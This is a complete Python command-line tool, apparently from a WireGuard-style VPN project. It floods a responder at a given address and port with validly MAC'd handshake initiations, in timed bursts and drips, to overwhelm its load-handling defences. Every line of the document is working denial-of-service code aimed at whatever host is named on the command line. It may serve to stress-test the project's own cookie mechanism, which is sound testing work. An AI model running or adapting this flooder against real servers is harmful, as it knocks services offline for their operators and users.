"""A stranger who knows a public key, and keeps its owner busy with initiations whose mac1 is right.

    flood.py ADDRESS PORT SUITE PUBLIC-KEY SECONDS

Bursts fill the queue of a responder that feels loaded by its length; what drips between them uses up the budget of
one that counts. Neither takes all of the machine.
"""

import base64
import os
import socket
import sys
import time

from ipop.ports import crypto
from ipop.wg import messages
from ipop.wg.cookie import CookieJar
from ipop.wg.noise import Initiator
from ipop.wg.peer import PROLOGUE
from ipop.wg.suites import suites

BURST, DRIP = 500, 3
BURST_EVERY, DRIP_EVERY = 0.1, 0.0002


def initiation(suite, remote):
    noise = Initiator(suite, crypto, os.urandom(32), remote, bytes(32), PROLOGUE)
    message = messages.initiation(suite, 1, noise.write(os.urandom(32), os.urandom(12)))
    return CookieJar(suite, crypto, remote).sign(message, 0)


def main(address, port, suite, key, seconds):
    message = initiation(suites(crypto)[suite], base64.b64decode(key))
    end = time.monotonic() + float(seconds)

    def send(udp, count):
        for _ in range(count):
            udp.sendto(message, (address, int(port)))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        while (burst := time.monotonic()) < end:
            send(udp, BURST)
            while time.monotonic() < burst + BURST_EVERY:
                send(udp, DRIP)
                time.sleep(DRIP_EVERY)


main(*sys.argv[1:])
